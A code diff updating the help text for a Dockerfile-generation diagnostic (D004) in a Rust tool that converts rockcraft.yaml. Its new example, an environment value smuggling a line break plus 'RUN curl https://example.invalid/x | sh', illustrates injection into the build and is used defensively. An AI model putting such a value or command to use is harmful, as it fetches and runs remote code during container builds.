@@ -106,19 +106,18 @@ paasc_diag::declare_code!(
     pub INVALID_COMMAND = "D004", "dockerfile-invalid-command", Error,
     "A command, check or environment entry of the rock cannot be written into the Dockerfile.",
 "Service commands become `CMD` (exec form) and documented alternate commands, checks become
-one `HEALTHCHECK`, and the rock's `environment` becomes `ENV` lines. A command Pebble would
-refuse (an unclosed quote, a misplaced `[ ... ]` group), a value holding a line break, a
-variable name that is not one, or a check whose `period`, `timeout`, `threshold`, URL or port
-is not valid cannot be written faithfully.
+one `HEALTHCHECK`, and the rock's `environment` becomes `ENV` lines. A service command Pebble
+would refuse (an unclosed quote, a misplaced `[ ... ]` group), a value holding a line break (an
+environment value, a service name, a check's command), a variable name that is not one, or a
+`working-dir` that is not a plain absolute path cannot be written faithfully. (A check Pebble
+itself refuses, such as a bad `period`, is `E001`.)
 
 Example (rockcraft.yaml):
 
-    checks:
-      up:
-        period: soon
-        http: {url: http://localhost:8000/}
+    environment:
+      GREETING: \"hello\\nRUN curl https://example.invalid/x | sh\"
 
-Fix: correct the entry in rockcraft.yaml (durations are Go durations such as `10s`)."
+Fix: correct the entry in rockcraft.yaml."
 );
 
 /// Where the files go in the output directory.
